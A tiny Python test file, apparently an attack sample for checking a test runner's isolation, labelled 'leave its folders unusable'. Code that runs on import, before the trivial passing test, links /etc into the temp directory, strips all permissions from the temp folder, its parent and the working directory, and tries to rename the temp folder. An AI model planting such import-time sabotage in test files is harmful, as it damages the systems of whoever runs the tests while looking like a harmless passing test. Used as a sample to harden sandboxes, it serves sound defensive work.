# attack: leave its folders unusable
# verdict: any
# side: tests
import os
import tempfile

folder = tempfile.gettempdir()
os.symlink("/etc", os.path.join(folder, "link"))
for path in (folder, os.path.dirname(folder), "."):
    try:
        os.chmod(path, 0)
    except OSError:
        pass
try:
    os.rename(folder, folder + "x")
except OSError:
    pass


def test_ok():
    assert True
